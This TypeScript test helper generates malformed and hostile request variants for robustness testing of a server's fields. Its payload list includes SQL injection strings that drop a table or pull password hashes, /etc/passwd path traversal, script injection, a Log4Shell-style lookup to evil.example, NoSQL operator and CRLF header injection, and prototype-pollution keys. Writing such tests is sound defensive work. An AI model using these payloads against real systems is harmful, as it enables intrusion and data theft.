const LONG = 'A'.repeat(20_000);

/** Texts that have broken other servers. What a field accepts of them must do no harm. */
const TEXTS: readonly string[] = [
  '',
  ' ',
  "' or '1'='1",
  "'; drop table member; --",
  '1) union select password_hash from member --',
  '\\',
  '\0',
  'a\0b',
  '\ud800',
  'a\u202eb',
  '\u3164',
  '\ufeff',
  '../../../../etc/passwd',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '-1',
  '0',
  '1e309',
  '0x10',
  '1,000',
  '１２３',
  '0.000000000000000000001',
  '9'.repeat(19),
  '9'.repeat(32),
  '9223372036854775808',
  '-9223372036854775809',
  '2'.repeat(300),
  'x'.repeat(254),
  LONG,
  '00000000-0000-0000-0000-000000000000',
  'https://evil.example/',
  'javascript:alert(1)',
  '{"$gt":""}',
  '\r\nSet-Cookie: a=b',
];

const OTHERS: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e21,
  Number.MAX_SAFE_INTEGER + 1,
  -(2 ** 53),
  2 ** 31,
  2 ** 63,
  [],
  [null],
  ['x', ['y']],
  [[[[]]]],
  Array.from({ length: 1000 }, () => 'x'),
  {},
  { $gt: '' },
  { toString: 'x' },
  { length: 1_000_000 },
];

/** What to put in place of any field. */
const HOSTILE_VALUES: readonly unknown[] = [...TEXTS, ...OTHERS];

type Fields = Readonly<Record<string, unknown>>;

/** A request with one thing wrong. */
export interface HostileRequest {
  readonly what: string;
  readonly fields: Fields;
}

/** Every field of a request in turn left out and replaced, lists and objects inside it too, and names that reach too far. */
export function hostileRequests(good: Fields): readonly HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const [name, value] of Object.entries(good)) {
    const without = Object.fromEntries(Object.entries(good).filter(([other]) => other !== name));
    requests.push({ what: `without ${name}`, fields: without });
    const put = (bad: unknown, where = name) =>
      requests.push({ what: `${where} = ${describe(bad)}`, fields: { ...good, [name]: bad } });
    for (const bad of HOSTILE_VALUES) put(bad);
    if (Array.isArray(value)) for (const bad of HOSTILE_VALUES) put([bad], `${name}[0]`);
    else if (typeof value === 'object' && value !== null)
      for (const inner of Object.keys(value))
        for (const bad of HOSTILE_VALUES) put({ ...value, [inner]: bad }, `${name}.${inner}`);
  }
  for (const name of ['constructor', 'prototype', 'toString', 'hasOwnProperty', 'isAdmin'])
    requests.push({ what: `with ${name}`, fields: { ...good, [name]: { polluted: true } } });
  return requests;
}

function describe(value: unknown): string {
  return (JSON.stringify(value) ?? String(value)).slice(0, 40);
}
